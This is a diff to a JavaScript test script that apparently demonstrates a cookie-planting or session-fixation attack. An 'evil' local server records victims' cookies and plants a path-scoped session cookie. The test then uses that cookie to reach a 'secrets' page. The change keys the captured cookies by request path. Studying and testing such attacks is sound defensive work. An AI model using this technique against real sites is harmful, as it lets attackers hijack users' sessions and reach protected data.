@@ -128,9 +128,9 @@ const ask = (url, headers = {}) => new Promise((done) => get(url, { headers }, (
 }));
 const address = link(), opened = (await ask(address)).answer.headers;
 const place = opened.location, home = new URL(address).origin + place, cookie = opened['set-cookie'][0].split(';')[0];
-const heard = [];
+const heard = new Map();
 const evil = createServer((request, answer) => {
-  heard.push(request.headers.cookie);
+  heard.set(request.url, request.headers.cookie);
   if (request.url !== '/plant') return answer.setHeader('Content-Type', 'text/html').end('<p>evil</p>');
   answer.writeHead(302, { 'Set-Cookie': `${cookie}; Path=${place}`, Location: home }).end();
 });
@@ -146,7 +146,8 @@ const other = await victim.context().newPage(); await other.goto(`http://localho
 await other.evaluate((url) => new Promise((done) => {
   const picture = new Image(); picture.onerror = picture.onload = done; picture.src = url;
 }), `${place}picture`);
-const known = heard.at(-1);
+// By its path: a browser asks for icons too, whenever it likes.
+const known = heard.get(`${place}picture`);
 assert.ok(known.startsWith('keyless='), 'the cookie that was planted, at least');
 for (const room of ['', 'secrets']) {
   const { answer, body } = await ask(home + room, { cookie: known });
